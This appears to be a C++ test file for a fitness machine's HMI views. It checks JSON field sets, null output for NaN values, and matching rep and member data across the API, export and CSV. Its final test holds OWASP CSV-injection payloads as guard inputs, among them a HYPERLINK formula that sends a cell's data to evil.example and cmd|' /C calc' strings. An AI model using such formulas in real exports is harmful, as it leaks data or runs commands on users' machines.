// The one schema (issue 11): each renderer's field set, null for non-finite
// numbers (never `nan`), and the same rep and event fields from the JSON
// lines (controller → view), the API (store → view → Api) and the export
// (store → view → JSON and CSV) for the same data.
#include <doctest/doctest.h>

#include <boost/json.hpp>

#include <cmath>
#include <limits>
#include <set>
#include <string>

#include "fake_backend.hpp"
#include "soleus/app/views_from_controller.hpp"
#include "soleus/app/views_from_storage.hpp"
#include "soleus/hmi/api.hpp"
#include "soleus/hmi/views.hpp"

using namespace soleus;
using namespace soleus::hmi;
namespace json = boost::json;

namespace {

std::set<std::string> keys(const json::value& v) {
  std::set<std::string> k;
  for (const auto& kv : v.as_object()) k.insert(std::string(kv.key()));
  return k;
}

const double kNaN = std::numeric_limits<double>::quiet_NaN();
const double kInf = std::numeric_limits<double>::infinity();

/// No `nan`, `inf` or `E` exponent anywhere in the text; it parses.
void check_clean(const std::string& text) {
  CHECK(text.find("nan") == std::string::npos);
  CHECK(text.find("inf") == std::string::npos);
  CHECK(text.find("NaN") == std::string::npos);
  CHECK_NOTHROW((void)json::parse(text));
}

}  // namespace

TEST_CASE("views: each renderer's field set") {
  CHECK(keys(to_json(FaultView{})) == std::set<std::string>{"code", "message", "since"});
  CHECK(keys(to_json(LoopView{})) ==
        std::set<std::string>{"hz", "p99_ms", "overruns", "p50_ms", "max_ms", "cycles"});
  CHECK(keys(to_json(StatusView{})) ==
        std::set<std::string>{"state", "position_mm", "force_n", "load_n", "set_id", "faults",
                              "loop", "velocity_mm_s", "phase", "phase_progress", "reps", "tut_s",
                              "rest_remaining_s", "range_note", "range_age_days"});
  CHECK(keys(to_json(LiveFrame{})) ==
        std::set<std::string>{"t_ms", "force_n", "position_mm", "velocity_mm_s", "load_n", "state",
                              "phase", "phase_progress", "reps", "tut_s", "faults", "set_id",
                              "range_bottom_mm", "range_top_mm", "rest_remaining_s", "last_rep",
                              "range_note", "range_age_days"});
  CHECK(keys(to_json(RepFeedbackView{})) == std::set<std::string>{"set_id", "seq", "n", "partial",
                                                                  "on_tempo", "tempo",
                                                                  "tempo_deviation_s", "rom_pct"});
  const std::set<std::string> rep_fields{"set_id",
                                         "seq",
                                         "n",
                                         "partial",
                                         "peak_force_n",
                                         "mean_force_n",
                                         "concentric_s",
                                         "top_pause_s",
                                         "eccentric_s",
                                         "bottom_pause_s",
                                         "rom_mm",
                                         "rom_pct",
                                         "mean_velocity_mm_s",
                                         "smoothness",
                                         "on_tempo",
                                         "tempo_deviation_s",
                                         "tut_s",
                                         "reversals",
                                         "wobbly",
                                         "tempo"};
  CHECK(keys(to_json(RepView{})) == rep_fields);
  CHECK(keys(to_json(SetView{})) == std::set<std::string>{"id",
                                                          "state",
                                                          "mode",
                                                          "load_n",
                                                          "tempo",
                                                          "reps",
                                                          "partial_reps",
                                                          "tut_s",
                                                          "stop_reason",
                                                          "rep_log",
                                                          "member_id",
                                                          "target_reps",
                                                          "hold_s",
                                                          "started_ms",
                                                          "ended_ms",
                                                          "session_id",
                                                          "force_drop_pct",
                                                          "eccentric_pct",
                                                          "range_bottom_mm",
                                                          "range_top_mm",
                                                          "range_calibrated",
                                                          "range_note",
                                                          "range_age_days",
                                                          "duration_s",
                                                          "best_output",
                                                          "last_output",
                                                          "fatigue_index_pct",
                                                          "decline_n_per_rep"});
  CHECK(keys(to_json(EventView{})) == std::set<std::string>{"id", "t_ms", "time", "severity",
                                                            "code", "message", "set_id",
                                                            "context"});
  // The CSV columns are the JSON's names (times as *_at / time, ISO 8601).
  const auto rh = rep_csv_header();
  CHECK(std::set<std::string>(rh.begin(), rh.end()) == rep_fields);
  CHECK(rep_csv_header().size() == csv_cells(RepView{}).size());
  CHECK(set_csv_header().size() == csv_cells(SetView{}).size());
  CHECK(event_csv_header().size() == csv_cells(EventView{}).size());
}

TEST_CASE("views: rounding, optional fields as null, a listing's rep_log as null") {
  RepView r;
  r.peak_force_n = 561.23456;
  CHECK(to_json(r).at("peak_force_n").as_double() == 561.235);
  SetView s;
  CHECK(to_json(s).at("rep_log").is_array());
  CHECK(to_json(s).at("stop_reason").is_null());
  s.rep_log_known = false;
  CHECK(to_json(s).at("rep_log").is_null());
  EventView e;
  e.t_ms = 1763921100000;
  e.context = R"({"value":3})";
  CHECK(to_json(e).at("time") == "2025-11-23T18:05:00.000Z");
  CHECK(to_json(e).at("context").at("value") == 3);
  CHECK(to_json(e).at("id").is_null());
  e.context = "{not json";
  CHECK(to_json(e).at("context") == "{not json");
}

TEST_CASE("views: NaN and infinities are written as null, never nan") {
  RepView r;
  r.peak_force_n = kNaN;
  r.rom_pct = kInf;
  r.smoothness = -kInf;
  const auto j = to_json(r);
  CHECK(j.at("peak_force_n").is_null());
  CHECK(j.at("rom_pct").is_null());
  CHECK(j.at("smoothness").is_null());
  check_clean(write_json(j));

  StatusView st;
  st.force_n = kNaN;
  st.loop.hz = kInf;
  st.rest_remaining_s = kNaN;
  check_clean(write_json(to_json(st)));
  CHECK(to_json(st).at("force_n").is_null());
  CHECK(to_json(st).at("loop").at("hz").is_null());

  LiveFrame f;
  f.velocity_mm_s = kNaN;
  f.range_top_mm = kInf;
  check_clean(write_json(to_json(f)));

  SetView s;
  s.load_n = kNaN;
  s.hold_s = kInf;
  s.rep_log.push_back(r);
  check_clean(write_json(to_json(s)));
  CHECK(to_json(s).at("load_n").is_null());

  // write_json itself, given raw non-finite doubles.
  CHECK(write_json(json::array{kNaN, kInf, -kInf, 1.5}) == "[null,null,null,1.5]");
  CHECK(write_json(json::object{{"a", 500.0}}) == R"({"a":500})");  // not 5E2

  // CSV: an empty cell.
  const auto cells = csv_cells(r);
  const auto h = rep_csv_header();
  for (std::size_t i = 0; i < h.size(); ++i)
    if (h[i] == "peak_force_n" || h[i] == "rom_pct") CHECK(cells[i].empty());

  // Through the API: a backend's NaN reaches the client as null.
  test::FakeBackend be;
  be.status_view.force_n = kNaN;
  be.status_view.position_mm = kInf;
  HmiConfig cfg;
  Api api(cfg, be, {}, {});
  ApiRequest q;
  q.method = "GET";
  q.target = "/api/v1/status";
  const auto resp = api.handle(q);
  CHECK(resp.status == 200);
  check_clean(resp.body);
  CHECK(json::parse(resp.body).at("force_n").is_null());
}

namespace {

/// One rep as the controller reports it, and the row the writer stores of it.
controller::RepRecord controller_rep() {
  controller::RepRecord r;
  r.set_id = 12;
  r.seq = 2;
  r.n = 1;
  r.counted = true;
  r.t_start_s = 5;
  r.peak_force_n = 561.2;
  r.mean_force_n = 523.4;
  r.concentric_s = 3.1;
  r.top_pause_s = 1;
  r.eccentric_s = 2.9;
  r.bottom_pause_s = 1.1;
  r.rom_mm = 62.5;
  r.rom_pct = 98.4;
  r.mean_velocity_mm_s = 20.2;
  r.smoothness = 0.97;
  r.reversals = 1;
  r.wobbly = false;
  r.on_tempo = true;
  r.tempo_deviation_s = 0.1;
  r.tut_s = 8.1;
  return r;
}

// As soleusd stores it (the daemon's own conversion).
storage::RepRow stored_rep(const controller::RepRecord& x) { return app::rep_record(x); }

storage::SetRow stored_set() {
  storage::SetRow s;
  s.id = 12;
  s.started_ms = 1763921100000;
  s.ended_ms = 1763921200000;
  s.mode = "isotonic";
  s.tempo = "3-1-3-1";
  s.load_n = 500;
  s.target_reps = 12;
  s.stop_reason = "force_drop";
  s.reps = 1;
  s.tut_s = 8.1;
  return s;
}

}  // namespace

TEST_CASE("views: the JSON lines, the API and the export give the same rep and event fields") {
  const controller::RepRecord rec = controller_rep();
  const storage::RepRow row = stored_rep(rec);
  const storage::SetRow set = stored_set();

  // soleusd --json-lines: the rep line (less its "type").
  const json::value line = json::parse(write_json(to_json(app::rep_view(rec))));

  // The API: GET /api/v1/sets/12 of a backend that maps the stored rows.
  test::FakeBackend be;
  be.sets[12] = app::set_view(set, {row});
  HmiConfig cfg;
  Api api(cfg, be, {}, {});
  ApiRequest login;
  login.method = "POST";
  login.target = "/api/v1/login";
  login.body = R"({"role":"guest"})";
  const auto tok = api.handle(login);
  REQUIRE_MESSAGE(tok.status == 200, tok.body);
  ApiRequest get;
  get.method = "GET";
  get.target = "/api/v1/sets/12";
  get.authorization = "Bearer " + std::string(json::parse(tok.body).at("token").as_string());
  const auto resp = api.handle(get);
  REQUIRE_MESSAGE(resp.status == 200, resp.body);
  const json::value api_set = json::parse(resp.body);
  const json::value api_rep = api_set.at("rep_log").at(0);

  // The export: JSON and CSV.
  storage::MemberExport ex;
  ex.member.id = 7;
  ex.sets.push_back({set, {row}, {}});
  const json::value exported = json::parse(app::export_json(ex));
  const json::value exp_rep = exported.at("sets").at(0).at("rep_log").at(0);

  CHECK(line == api_rep);
  CHECK(exp_rep == api_rep);
  CHECK(exported.at("sets").at(0) == api_set);
  CHECK(api_rep.at("partial") == false);
  CHECK(api_rep.at("peak_force_n") == 561.2);

  // The reps CSV: its columns are the rep's fields, with the same values.
  const auto csv = app::export_reps_csv(ex);
  const auto head_end = csv.find("\r\n");
  const std::string header = csv.substr(0, head_end);
  const std::string values =
      csv.substr(head_end + 2, csv.find("\r\n", head_end + 2) - head_end - 2);
  std::vector<std::string> h, v;
  auto split = [](const std::string& s, std::vector<std::string>& out) {
    std::size_t p = 0;
    while (true) {
      const auto c = s.find(',', p);
      out.push_back(s.substr(p, c == std::string::npos ? std::string::npos : c - p));
      if (c == std::string::npos) break;
      p = c + 1;
    }
  };
  split(header, h);
  split(values, v);
  REQUIRE(h.size() == v.size());
  CHECK(std::set<std::string>(h.begin(), h.end()) == keys(api_rep));
  for (std::size_t i = 0; i < h.size(); ++i) {
    const auto& j = api_rep.at(h[i]);
    if (j.is_bool()) CHECK_MESSAGE(v[i] == (j.as_bool() ? "1" : "0"), h[i]);
    else if (j.is_string()) CHECK_MESSAGE(v[i] == std::string(j.as_string()), h[i]);
    else CHECK_MESSAGE(json::parse(v[i]).to_number<double>() == j.to_number<double>(), h[i]);
  }

  // Events: the JSON line (controller event) and the API / soleusctl (stored row).
  controller::Event ce;
  ce.t_s = 1.0;
  ce.severity = controller::Severity::Error;
  ce.code = controller::EventCode::SetStarted;
  ce.set_id = 12;
  ce.value = 3;
  ce.set_text("over-current");
  const hmi::EventView from_loop = app::event_view(ce);
  storage::EventRow er;
  er.id = 311;
  er.t_ms = from_loop.t_ms;
  er.severity = storage::Severity::Error;
  er.code = from_loop.code;
  er.message = "over-current";
  er.set_id = 12;
  er.context = from_loop.context;  // what the daemon stores (to_record)
  const json::value ev_line = to_json(from_loop);
  const json::value ev_stored = to_json(app::event_view(er));
  CHECK(keys(ev_line) == keys(ev_stored));
  for (const auto& k : keys(ev_line))
    if (k != "id") CHECK_MESSAGE(ev_line.at(k) == ev_stored.at(k), k);
  CHECK(ev_line.at("context").at("value") == 3);
  // soleusctl events --json and GET /events render the same view the same way.
  CHECK(json::parse(write_json(ev_stored)) == ev_stored);
}

TEST_CASE("views: member, history, programme and session renderers' field sets") {
  CHECK(keys(to_json(MemberView{})) ==
        std::set<std::string>{"id", "number", "name", "has_pin", "assessed_max_n", "assessed_ms",
                              "assessed_method", "assessment_assigned", "assessment_assigned_ms",
                              "rom_bottom_mm", "rom_top_mm", "rom_measured_ms", "programme_id",
                              "created_ms", "reassessment_due", "flagged", "flag_reason"});
  CHECK(keys(to_json(HistorySetView{})) ==
        std::set<std::string>{"set_id", "mode", "load_n", "reps", "tut_s", "stop_reason",
                              "partial_reps", "on_tempo_pct", "started_ms"});
  CHECK(keys(to_json(HistoryEntryView{})) ==
        std::set<std::string>{"session_id", "date_ms", "programme_id", "programme", "sets", "reps",
                              "load_x_reps_n", "max_load_n", "tut_s", "on_tempo_pct"});
  CHECK(keys(to_json(MemberStopEventView{})) ==
        std::set<std::string>{"t_ms", "time", "set_id", "reason", "rep", "reps", "session_id"});
  CHECK(keys(to_json(SetTraceView{})) == std::set<std::string>{"set_id", "reps", "between"});
  SetTraceView tv;
  tv.set_id = 4;
  tv.reps.push_back({1, 1, false, {0, 0.02}, {100.5, 101.25}, {3, 4}});
  tv.between_t = {0.5};
  tv.between_force_n = {2};
  tv.between_position_mm = {1};
  const json::value tj = to_json(tv);
  CHECK(keys(tj.at("reps").at(0)) ==
        std::set<std::string>{"seq", "n", "partial", "t", "force_n", "position_mm"});
  CHECK(keys(tj.at("between")) == std::set<std::string>{"t", "force_n", "position_mm"});
  CHECK(write_json(tj.at("reps").at(0).at("force_n")) == "[100.5,101.25]");
  CHECK(keys(to_json(AssignmentView{})) ==
        std::set<std::string>{"id", "programme_id", "programme", "started_ms", "ended_ms"});
  CHECK(keys(to_json(SessionRecordView{})) ==
        std::set<std::string>{"id", "started_ms", "ended_ms", "state"});
  CHECK(keys(to_json(ProgressionView{})) == std::set<std::string>{"rule", "amount", "on_tempo"});
  CHECK(keys(to_json(StepView{})) ==
        std::set<std::string>{"step_id", "mode", "sets", "target_reps", "hold_s", "load_n",
                              "load_pct", "tempo", "rest_s", "force_drop_pct", "eccentric_pct",
                              "rep_min", "rep_max", "progression"});
  CHECK(keys(to_json(ProgrammeView{})) ==
        std::set<std::string>{"id", "name", "description", "sessions_per_week", "block_weeks",
                              "after_block_sessions_per_week", "block_every_other_day", "steps"});
  // Issue 13 §2: the schedule (the shared contract's fields) and the change log.
  CHECK(keys(to_json(ScheduleView{})) ==
        std::set<std::string>{"programme_id", "programme", "phase", "block_week", "block_weeks",
                              "sessions_per_week", "next_due_ms", "next_due_in_days", "this_week",
                              "adherence", "consecutive_day_note", "reassessment_due",
                              "reassessment_due_ms", "flagged", "flag_reason"});
  CHECK(keys(to_json(WeekCountView{})) ==
        std::set<std::string>{"week_start_ms", "planned", "done"});
  CHECK(keys(to_json(ProgressionChangeView{})) ==
        std::set<std::string>{"id", "t_ms", "session_id", "step_id", "change", "level_before",
                              "level_after", "target_before", "target_after", "reason"});
  ProgressionView dbl{"double", 10, true, "load_pct"};
  CHECK(keys(to_json(dbl)) == std::set<std::string>{"rule", "amount", "on_tempo", "increment"});
  CHECK(keys(to_json(StepCardView{})) ==
        std::set<std::string>{"index", "count", "step_id", "mode", "sets", "set", "target_reps",
                              "hold_s", "load_n", "load_basis", "tempo", "rest_s", "force_drop_pct",
                              "eccentric_pct"});
  CHECK(keys(to_json(SessionSetView{})) ==
        std::set<std::string>{"set_id", "step", "set", "reps", "stop_reason"});
  CHECK(keys(to_json(SessionView{})) ==
        std::set<std::string>{"session_id", "state", "programme_id", "programme",
                              "sessions_per_week", "rest_remaining_s", "step", "sets_done"});
  // Optional fields present as null; the step card null when complete.
  const json::value s = to_json(SessionView{});
  CHECK(s.at("session_id").is_null());
  CHECK(s.at("step").is_null());
  CHECK(s.at("sets_done").as_array().empty());
  SessionView with_step;
  with_step.step = StepCardView{};
  with_step.step->target_reps = 12;
  CHECK(to_json(with_step).at("step").at("target_reps") == 12);
  CHECK(to_json(with_step).at("step").at("hold_s").is_null());
}

TEST_CASE("views: members, programmes and sessions write NaN and infinities as null") {
  MemberView m;
  m.assessed_max_n = kNaN;
  m.rom_bottom_mm = kInf;
  m.rom_top_mm = -kInf;
  const json::value mj = to_json(m);
  CHECK(mj.at("assessed_max_n").is_null());
  CHECK(mj.at("rom_bottom_mm").is_null());
  CHECK(mj.at("rom_top_mm").is_null());
  check_clean(write_json(mj));

  StepView st;
  st.load_n = kNaN;
  st.hold_s = kInf;
  st.rest_s = kNaN;
  st.force_drop_pct = kInf;
  st.progression.amount = kNaN;
  ProgrammeView p;
  p.steps.push_back(st);
  const json::value pj = to_json(p);
  const auto& sj = pj.at("steps").at(0);
  CHECK(sj.at("load_n").is_null());
  CHECK(sj.at("hold_s").is_null());
  CHECK(sj.at("rest_s").is_null());
  CHECK(sj.at("force_drop_pct").is_null());
  CHECK(sj.at("progression").at("amount").is_null());
  check_clean(write_json(pj));

  SessionView sv;
  sv.rest_remaining_s = kNaN;
  sv.step = StepCardView{};
  sv.step->load_n = kInf;
  sv.step->eccentric_pct = kNaN;
  const json::value sj2 = to_json(sv);
  CHECK(sj2.at("rest_remaining_s").is_null());
  CHECK(sj2.at("step").at("load_n").is_null());
  CHECK(sj2.at("step").at("eccentric_pct").is_null());
  check_clean(write_json(sj2));

  HistoryEntryView h;
  HistorySetView hs;
  hs.load_n = kNaN;
  hs.tut_s = kInf;
  h.sets.push_back(hs);
  const json::value hj = to_json(h);
  CHECK(hj.at("sets").at(0).at("load_n").is_null());
  CHECK(hj.at("sets").at(0).at("tut_s").is_null());
  check_clean(write_json(hj));
}

TEST_CASE("views: a member is rendered the same in the API (list and get) and the export") {
  storage::MemberRow m;
  m.id = 7;
  m.number = "1042";
  m.name = "Ann Example";
  m.pin_hash = "pbkdf2$...";
  m.assessed_max_n = 900;
  m.rom_bottom_mm = 8.25;
  m.rom_top_mm = 140.5;
  m.created_ms = 1763921100000;
  // The API: DaemonBackend's list and get both render member_view(row, current programme).
  const json::value api = to_json(app::member_view(m, std::int64_t{3}));
  // The export: the row with its PIN hash cleared, has_pin and the assignments beside it.
  storage::MemberExport ex;
  ex.member = m;
  ex.member.pin_hash.reset();
  ex.has_pin = true;
  ex.assignments.push_back({1, 2, "Old", 1763000000000, 1763500000000});
  ex.assignments.push_back({2, 3, "Calf strength A", 1763500000000, std::nullopt});
  const json::value exported = json::parse(app::export_json(ex));
  CHECK(exported.at("member") == json::parse(write_json(api)));
  CHECK(api.at("has_pin") == true);
  CHECK(api.at("programme_id") == 3);
  CHECK(api.at("created_ms") == 1763921100000);
  // The export's assignments and sessions through their views.
  CHECK(exported.at("assignments").at(0) == to_json(app::assignment_view(ex.assignments[0])));
  CHECK(exported.at("assignments").at(1).at("ended_ms").is_null());
  CHECK(exported.at("sessions").as_array().empty());
  // No PIN, no open assignment.
  storage::MemberRow bare = m;
  bare.pin_hash = "";
  const json::value b = to_json(app::member_view(bare, std::nullopt));
  CHECK(b.at("has_pin") == false);
  CHECK(b.at("programme_id").is_null());
}

TEST_CASE("views: a programme's stored steps as the API's steps") {
  storage::ProgrammeRow p;
  p.id = 3;
  p.name = "Calf strength A";
  p.notes = "twice a week";
  p.sessions_per_week = 4;
  p.block_weeks = 6;
  storage::StepRow s;
  s.id = 7;
  s.mode = "isotonic";
  s.sets = 3;
  s.target_reps = 12;
  s.load_pct_max = 70;
  s.tempo = "3-1-3-1";
  s.rest_s = 120;
  s.progress_rule = "load_pct";
  s.progress_amount = 2.5;
  s.progress_when = "all_sets_target_on_tempo";
  const json::value j = to_json(app::programme_view(p, {s}));
  CHECK(j.at("description") == "twice a week");
  CHECK(j.at("block_weeks") == 6);
  CHECK(j.at("after_block_sessions_per_week").is_null());
  const auto& st = j.at("steps").at(0);
  CHECK(st.at("step_id") == 7);
  CHECK(st.at("load_pct").to_number<double>() == 70);
  CHECK(st.at("load_n").is_null());
  CHECK(st.at("hold_s").is_null());
  CHECK(st.at("progression") == json::parse(R"({"rule":"load_pct","amount":2.5,"on_tempo":true})"));
}

TEST_CASE("views: diagnostics and the range check") {
  DiagnosticsView d;
  const json::value j = to_json(d);
  CHECK(keys(j) == std::set<std::string>{"signals", "bus", "loop", "state", "armed", "storage",
                                         "odometer", "range_check"});
  CHECK(keys(j.at("signals")) ==
        std::set<std::string>{"drive.ready",         "drive.enabled",        "drive.fault",
                              "drive.sto",           "drive.speed_limited",  "drive.torque_limited",
                              "drive.fault_code",    "drive.position_mm",    "drive.velocity_mm_s",
                              "drive.torque_pct",    "drive.force_n",        "drive.temperature_c",
                              "drive.bus_voltage_v", "load_cell.force_n",    "load_cell.stable",
                              "load_cell.overload",  "load_cell.adc_error",  "load_cell.tare_busy",
                              "load_cell.counter",   "load_cell.span_factor"});
  CHECK(keys(j.at("bus")) ==
        std::set<std::string>{"cycles", "transactions", "timeouts", "crc_errors", "drive_errors",
                              "cell_errors", "reconnects", "bytes_tx", "bytes_rx", "comm_good"});
  CHECK(keys(j.at("loop")) == std::set<std::string>{"hz", "configured_hz", "p50_ms", "p99_ms",
                                                    "max_ms", "recent", "overruns", "cycles",
                                                    "commands_dropped", "trace_dropped",
                                                    "events_lost", "reps_lost", "results_lost"});
  CHECK(keys(j.at("loop").at("recent")) ==
        std::set<std::string>{"p50_ms", "p99_ms", "max_ms", "window_s"});
  CHECK(j.at("storage").is_null());
  CHECK(j.at("odometer").is_null());
  CHECK(j.at("range_check").is_null());
  CHECK(keys(to_json(StorageHealthView{})) ==
        std::set<std::string>{"ok", "open", "last_error", "pending_records", "records_committed",
                              "samples_committed", "transactions", "traces_dropped",
                              "records_overflowed", "records_lost", "faults"});
  CHECK(keys(to_json(OdometerView{})) ==
        std::set<std::string>{"reps", "sets", "motor_on_h", "highest_force_n", "since_ms"});
  // The reply to a range check has no t_ms; the one diagnostics keeps has.
  RangeCheckView rc;
  rc.why = "the pad travelled the whole range";
  CHECK(keys(to_json(rc)) == std::set<std::string>{"ok", "top_mm", "bottom_mm", "travel_mm",
                                                   "expected", "up_s", "down_s",
                                                   "peak_motor_force_n", "why"});
  CHECK(keys(to_json(rc).at("expected")) ==
        std::set<std::string>{"bottom_mm", "top_mm", "top_tolerance_mm", "bottom_tolerance_mm"});
  rc.t_ms = 1763921100000;
  CHECK(to_json(rc).at("t_ms") == 1763921100000);

  // NaN and infinities as null; the span factor unrounded.
  d.signals.drive_position_mm = kNaN;
  d.signals.drive_temperature_c = kInf;
  d.signals.cell_force_n = -kInf;
  d.signals.span_factor = 0.95277;
  d.loop.hz = kNaN;
  d.loop.p99_ms = kInf;
  d.odometer = OdometerView{};
  d.odometer->motor_on_h = kNaN;
  d.range_check = rc;
  d.range_check->top_mm = kNaN;
  d.range_check->bottom_mm = kInf;
  const json::value n = to_json(d);
  CHECK(n.at("signals").at("drive.position_mm").is_null());
  CHECK(n.at("signals").at("drive.temperature_c").is_null());
  CHECK(n.at("signals").at("load_cell.force_n").is_null());
  CHECK(n.at("signals").at("load_cell.span_factor") == 0.95277);
  CHECK(n.at("loop").at("hz").is_null());
  CHECK(n.at("loop").at("p99_ms").is_null());
  CHECK(n.at("odometer").at("motor_on_h").is_null());
  CHECK(n.at("range_check").at("top_mm").is_null());
  CHECK(n.at("range_check").at("bottom_mm").is_null());
  check_clean(write_json(n));
}

TEST_CASE("views: a session's end summary") {
  SessionSummaryView s;
  s.state = "done";
  s.why = "ended by the member";
  s.sets = 5;
  s.steps.push_back({7, 3, 3, true, "every set reached the target"});
  const json::value j = to_json(s);
  CHECK(keys(j) == std::set<std::string>{"state", "why", "sets", "steps"});
  CHECK(keys(j.at("steps").at(0)) ==
        std::set<std::string>{"step_id", "sets_done", "sets_at_target", "progressed", "why"});
  CHECK(j.at("sets") == 5);
  CHECK(j.at("steps").at(0).at("progressed") == true);
}

TEST_CASE("CSV: formula injection is guarded (OWASP cases), plain numbers stay numbers") {
  // OWASP "CSV Injection": cells a spreadsheet would run as a formula.
  CHECK(csv_field("=HYPERLINK(\"http://evil.example?x=\"&A1,\"Click\")") ==
        "\"'=HYPERLINK(\"\"http://evil.example?x=\"\"&A1,\"\"Click\"\")\"");
  CHECK(csv_field("=1+2") == "'=1+2");
  CHECK(csv_field("+1+2") == "'+1+2");
  CHECK(csv_field("-2+3+cmd|' /C calc'!A0") == "'-2+3+cmd|' /C calc'!A0");
  CHECK(csv_field("@SUM(1+9)*cmd|' /C calc'!A0") == "'@SUM(1+9)*cmd|' /C calc'!A0");
  CHECK(csv_field("\t=1+2") == "'\t=1+2");
  CHECK(csv_field("\r=1+2") == "\"'\r=1+2\"");
  CHECK(csv_field("=cmd|' /C notepad'!'A1',x") == "\"'=cmd|' /C notepad'!'A1',x\"");
  CHECK(csv_field("-") == "'-");
  CHECK(csv_field("+") == "'+");
  // Numbers, including negative and exponent forms, stay numbers.
  CHECK(csv_field("-12.5") == "-12.5");
  CHECK(csv_field("+3") == "+3");
  CHECK(csv_field("-1e3") == "-1e3");
  CHECK(csv_field("1400") == "1400");
  CHECK(csv_field("-.5") == "-.5");
  CHECK(csv_field("-1e") == "'-1e");
  CHECK(csv_field("-1.2.3") == "'-1.2.3");
  // Text elsewhere: only RFC 4180 quoting; a formula sign inside is harmless.
  CHECK(csv_field("Ann") == "Ann");
  CHECK(csv_field("a=b") == "a=b");
  CHECK(csv_field("Smith, Ann") == "\"Smith, Ann\"");
  CHECK(csv_field("2026-03-01T10:00:00Z") == "2026-03-01T10:00:00Z");
  CHECK(csv_field("") == "");
  CHECK(is_plain_number("0"));
  CHECK_FALSE(is_plain_number(""));
  CHECK_FALSE(is_plain_number("."));
  CHECK_FALSE(is_plain_number("1,5"));
}
